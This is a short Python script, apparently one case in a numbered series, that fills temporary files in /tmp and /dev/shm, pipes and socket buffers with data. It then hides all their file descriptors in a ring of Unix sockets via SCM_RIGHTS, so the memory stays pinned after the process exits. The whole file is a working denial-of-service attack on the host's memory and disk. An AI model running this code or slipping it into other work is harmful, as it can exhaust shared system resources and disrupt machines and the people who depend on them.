# As X01, but what the ring of sockets keeps alive after every process is dead is memory: full disks, pipes and sockets.
import array
import fcntl
import os
import socket


def fill(*fds):
    try:
        while os.write(fds[-1], bytes(1 << 20)):
            pass
    except OSError:
        pass
    send(fds)


def send(fds):
    for end in ring:
        end.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])


ring = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
send([end.fileno() for end in ring])
for directory in ("/tmp", "/dev/shm"):
    fill(os.open(directory, os.O_TMPFILE | os.O_RDWR, 0o600))
for _ in range(30):
    reading, writing = os.pipe()
    fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, 1 << 20)
    os.set_blocking(writing, False)
    fill(reading, writing)
for _ in range(30):
    one, other = socket.socketpair()
    other.setblocking(False)
    fill(one.detach(), other.detach())
os._exit(0)
